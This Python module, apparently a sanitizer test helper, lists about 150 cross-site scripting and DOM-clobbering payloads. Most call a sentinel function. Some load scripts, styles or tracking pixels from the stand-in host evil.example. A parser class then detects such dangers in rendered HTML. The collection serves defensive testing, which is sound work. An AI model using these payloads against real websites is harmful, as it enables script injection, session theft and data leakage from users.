"""Texts by which others have brought script into pages: each would call __x(), or plant something that page scripts trust. And how to see whether it did."""

from html.parser import HTMLParser

VECTORS: tuple[str, ...] = (
    "<script>__x()</script>",
    "</title><script>__x()</script>",
    "</script><script>__x()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>__x()<</script>/script>",
    "<img src=x onerror=__x()>",
    '"><img src=x onerror=__x()>',
    "'><img src=x onerror=__x()>",
    "<img src=x onerror=__x()//",
    "<img/src=x/onerror=__x()>",
    "<img src=x oneonerrorrror=__x()>",
    "<img src=x onerror=&#95;_x()>",
    "<img src=//evil.example/pixel.gif>",
    "![](https://evil.example/pixel.gif)",
    "![x](javascript:__x())",
    "![x](x onerror=__x())",
    '![x" onerror="__x()](x)',
    "<svg/onload=__x()>",
    "<svg><script>__x()</script></svg>",
    "<svg><a xlink:href=javascript:__x()><text>x</text></a></svg>",
    "<svg><animate onbegin=__x() attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:__x()>x",
    "<math><mtext><table><mglyph><style><img src onerror=__x()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__x()>",
    "<noscript><p title='</noscript><img src=x onerror=__x()>'>",
    "<!--><img src=x onerror=__x()>-->",
    "<![CDATA[<img src=x onerror=__x()>]]>",
    "<?xml version='1.0'?><x onclick=__x()>",
    "<iframe src=javascript:__x()></iframe>",
    "<iframe srcdoc='<script>parent.__x()</script>'>",
    "<object data=javascript:__x()>",
    "<embed src=javascript:__x()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:__x()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(javascript:__x())}</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    "<div style=animation-name:x onanimationstart=__x()>",
    "<details open ontoggle=__x()>x</details>",
    "<marquee onstart=__x()>x</marquee>",
    "<video><source onerror=__x()></video>",
    "<audio src=x onerror=__x()>",
    "<body onload=__x()>",
    "<input autofocus onfocus=__x()>",
    "<select autofocus onfocus=__x()>",
    "<textarea autofocus onfocus=__x()>",
    "<button formaction=javascript:__x()>x</button>",
    "<form action=javascript:__x()><input type=submit></form>",
    "<form><input name=csrf_token value=clobber></form>",
    "<a id=clobber href=x>x</a><a id=clobber name=url href=javascript:__x()>x</a>",
    "<img name=clobber><form name=clobber>",
    "<p contenteditable onblur=__x() tabindex=1>x</p>",
    "<a href=javascript:__x()>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=' java\nscript:__x()'>x</a>",
    "<template><script>__x()</script></template>",
    "<cocreate-toasts onclick=__x()></cocreate-toasts>",
    "[x](javascript:__x())",
    "[x](JaVaScRiPt:__x())",
    "[x]( javascript:__x())",
    "[x](java\tscript:__x())",
    "[x](javascript&colon;__x())",
    "[x](&#106;avascript:__x())",
    "[x](\x01javascript:__x())",
    "[x](vbscript:__x())",
    "[x](data:text/html,<script>__x()</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9X194KCk+)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    '[x](https://e.example "\'><img src=x onerror=__x()>")',
    '[x](https://e.example"onmouseover="__x())',
    "[x][1]\n\n[1]: javascript:__x()",
    "[x][1]\n\n[1]: <javascript:__x()> 'onclick=__x()'",
    "<javascript:__x()>",
    '<http://x" onmouseover="__x()>',
    "https://e.example/\"onmouseover='__x()'",
    "http://e.example/<img/src=x/onerror=__x()>",
    "www.e.example/'><script>__x()</script>",
    'me@e.example"onclick=__x()',
    "`<img src=x onerror=__x()>`",
    "```\n</code></pre><script>__x()</script>\n```",
    "```js onload=__x()\nx\n```",
    "    <script>__x()</script>",
    "> <script>__x()</script>",
    "- <img src=x onerror=__x()>",
    "\x02wzxhzdk:0\x03<script>__x()</script>",
    "\x02klzzwxh:0000\x03 <b onclick=__x()>x</b>",
    "*[x]: <img src=x onerror=__x()>",
    "{: onclick=__x() }",
    "# x {#clobber onclick=__x()}",
    "[^1]\n\n[^1]: <img src=x onerror=__x()>",
    "<p>x</p onclick=__x()>",
    "\u2028<img src=x onerror=__x()>\u2029",
    "＜script＞__x()＜/script＞",
    "%3Cscript%3E__x()%3C/script%3E",
    "&lt;script&gt;__x()&lt;/script&gt;",
    "&#60;img src=x onerror=__x()&#62;",
    "{{ __x() }}{% raw %}${__x()}#{__x()}{{7*7}}",
    "{{ ''.__class__.__mro__ }}{0.__class__}%(secret)s",
    "javascript:__x()",
    "'-__x()-'",
    "\\'-__x()//",
    "--><script>__x()</script><!--",
    "]]><script>__x()</script>",
    "\u202e<img src=x onerror=__x()>",
    "<img src=x onerror\x0c=\x0c__x()>",
    "<img \x0bsrc=x onerror=__x()>",
    "<img src='x' ONERROR='__x()'",
    '<img alt="`><img src=x onerror=__x()>">',
    "<svg><set attributeName=onmouseover to=__x()>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__x()</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>__x()</script></svg>#x'>",
    "<svg><style><img src=x onerror=__x()></style>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=__x()></annotation-xml></math>",
    "<math><mi><script>__x()</script></mi></math>",
    "<textarea></textarea><script>__x()</script>",
    "</textarea><img src=x onerror=__x()>",
    "</select><img src=x onerror=__x()>",
    "</template><img src=x onerror=__x()>",
    "</blockquote></section></main><script>__x()</script>",
    "<xmp><p title='</xmp><img src=x onerror=__x()>'>",
    "<noembed><img title='</noembed><img src=x onerror=__x()>'></noembed>",
    "<plaintext><script>__x()</script>",
    "<frameset onload=__x()>",
    "<isindex type=image src=x onerror=__x()>",
    "<dialog open onclose=__x()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<p popover id=clobber onbeforetoggle=__x()>x</p><button popovertarget=clobber>x</button>",
    "<a ping=//evil.example href=/>x</a>",
    "<link rel=import href=//evil.example/x>",
    "<object type=image/svg+xml data='data:image/svg+xml,<svg onload=__x()>'>",
    "<p data-part=//evil.example/x data-refs=idea:1>x</p>",
    "<form id=clobber><input name=action><input name=method></form>",
    "[x](javascript://%0a__x())",
    "[x](<javascript:__x()>)",
    "[x](java\u200bscript:__x())",
    "[x](/\\evil.example)",
    "![x](data:image/svg+xml,<svg onload=__x()>)",
    "**<img src=x onerror=__x()>**_<script>__x()</script>_",
    "| a |\n|---|\n| <img src=x onerror=__x()> |",
)

FORBIDDEN = frozenset(
    ["iframe", "frame", "object", "embed", "applet", "base", "math", "marquee", "style", "video", "audio", "source", "animate", "mglyph", "mtext"]
)
SCHEMES = ("javascript", "vbscript", "data", "blob", "file")
ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "srcdoc", "poster", "background", "data", "ping", "cite"})
VOID = frozenset({"img", "input", "br", "hr", "meta", "link", "source"})


class Dangers(HTMLParser):
    """Reads a page as HTML, as a browser would tell its elements apart, and notes what no content may bring in."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        if tag == "script":
            self._script = given.get("type") not in ("application/json",)
            if not given.get("src", "").startswith("/static/") and self._script and given.get("type") != "importmap":
                self.found.append(f"<script {given}>")
        if tag == "meta" and "refresh" in given.get("http-equiv", "").lower():
            self.found.append("<meta refresh>")
        for name, value in given.items():
            self._look(tag, name, value)

    def _look(self, tag: str, name: str, value: str) -> None:
        plain = "".join(c for c in value if ord(c) > 32).lower()
        if name.startswith("on") or name in ("style", "srcdoc", "contenteditable"):
            self.found.append(f"<{tag} {name}={value[:40]!r}>")
        if name in ADDRESSES and plain.partition(":")[0] in SCHEMES and ":" in plain:
            if not (tag in ("img", "link") and plain.startswith("data:image/")):
                self.found.append(f"<{tag} {name}={value[:40]!r}>")
        if name in ("id", "name", "form", "for") and "clobber" in value:
            self.found.append(f"<{tag} {name}={value[:40]!r}>")
        if name in ("src", "action", "formaction") and (plain.startswith("//") or "evil.example" in plain):
            self.found.append(f"<{tag} {name}={value[:40]!r}>")
        if name == "href" and plain.startswith(("//", "/\\", "\\")):
            self.found.append(f"<{tag} {name}={value[:40]!r}>")

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.found.append(f"script: {data[:40]!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = False


def dangers(html: str) -> list[str]:
    """What stands in the HTML that no content may bring in."""
    page = Dangers()
    page.feed(html)
    page.close()
    return page.found


class Elements(HTMLParser):
    """Every element and attribute of a fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]
